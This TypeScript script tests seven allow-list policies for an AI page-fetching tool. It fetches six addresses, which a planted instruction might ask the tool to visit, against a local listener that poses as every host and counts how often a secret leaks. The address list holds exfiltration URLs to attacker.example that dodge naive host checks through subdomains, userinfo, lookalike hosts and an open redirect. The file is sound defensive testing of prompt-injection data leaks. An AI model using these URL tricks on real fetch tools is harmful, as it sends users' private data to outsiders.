// Has a tool fetch six addresses under seven policies, with a listener that plays every host.
// Runs on Node 24 without anything installed: node addresses.ts
import { once } from 'node:events'
import { createServer, request } from 'node:http'
import type { AddressInfo } from 'node:net'
import { pathToFileURL } from 'node:url'

export const secret = 'order-1042-card-4242'
const ours = 'docs.example'

/** Addresses that a planted instruction may ask a reading tool for. */
const addresses = [
  `http://attacker.example/?d=${secret}`,
  `http://${secret}.attacker.example/`,
  `http://${ours}.attacker.example/?d=${secret}`,
  `http://${ours}@attacker.example/?d=${secret}`,
  `http://attacker-${ours}/?d=${secret}`,
  `http://${ours}/leave?to=http://attacker.example/?d=${secret}`,
]

/** What a tool that fetches pages may fetch. */
const policies: Record<string, { allows: (address: string) => boolean; follows: boolean }> = {
  'any address': { allows: () => true, follows: true },
  'the text contains our host': { allows: (address) => address.includes(ours), follows: true },
  'the text begins with our host': {
    allows: (address) => address.startsWith(`http://${ours}`),
    follows: true,
  },
  'the parsed host ends with ours': {
    allows: (address) => new URL(address).hostname.endsWith(ours),
    follows: true,
  },
  'the parsed host is ours': {
    allows: (address) => new URL(address).hostname === ours,
    follows: true,
  },
  'the parsed host is ours, redirects are refused': {
    allows: (address) => new URL(address).hostname === ours,
    follows: false,
  },
  'no address at all: a number from the last search': { allows: () => false, follows: false },
}

/** Has a tool fetch the addresses under each policy. One listener on this machine plays all hosts. */
export async function leaksThroughArguments() {
  const heard: string[] = []
  const listener = createServer((asked, answer) => {
    const { pathname, searchParams } = new URL(asked.url ?? '/', 'http://host')
    if (asked.headers.host !== ours) heard.push(`${asked.headers.host}${asked.url}`)
    const to = searchParams.get('to')
    // An open redirect, like those of sign-in pages and link counters.
    if (asked.headers.host === ours && pathname === '/leave' && to)
      answer.writeHead(302, { location: to })
    answer.end('a page')
  }).listen(0, '127.0.0.1')
  await once(listener, 'listening')
  const { port } = listener.address() as AddressInfo

  const fetchPage = async (address: string, follows: boolean): Promise<void> => {
    const { hostname, pathname, search } = new URL(address)
    const asked = request({
      host: '127.0.0.1',
      port,
      path: pathname + search,
      headers: { host: hostname },
    }).end()
    const [answer] = await once(asked, 'response')
    answer.resume()
    if (answer.headers.location && follows) await fetchPage(answer.headers.location, false)
  }
  const rows = []
  for (const [policy, { allows, follows }] of Object.entries(policies)) {
    heard.length = 0
    for (const address of addresses) if (allows(address)) await fetchPage(address, follows)
    const told = heard.filter((line) => line.includes(secret)).length
    rows.push({ policy, addresses: addresses.length, strangers_told: told })
  }
  listener.close()
  return rows
}

if (import.meta.url === pathToFileURL(process.argv[1] ?? '').href)
  console.table(await leaksThroughArguments())
